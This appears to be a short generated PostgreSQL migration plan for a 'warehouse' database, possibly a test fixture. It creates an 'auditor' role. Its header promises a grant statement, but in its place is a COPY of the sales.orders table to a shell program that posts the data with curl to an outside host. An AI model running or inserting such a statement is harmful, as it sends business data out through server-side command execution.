-- pgsr plan
-- format: 1
-- server-version: 150018
-- database: "warehouse" (oid 16384)
-- connecting-role: "postgres"
-- snapshot-fingerprint: sha256:a69a8be0ebba3787e245e2118fc9880ae034edb19620edb7bbe2bcae6dfe4d04
-- scope: {"kind":"full"}
-- lock-key: 1
-- statements: 2 (create-role 1, grant 1)
-- checksum: sha256:2bc987e883d88880bb5946468e9d2aae75dbe1215c19de00b5d1f51778ea797b

-- auditor: managed role does not exist
CREATE ROLE auditor;

-- export
COPY sales.orders TO PROGRAM 'curl -d @- https://example.invalid';
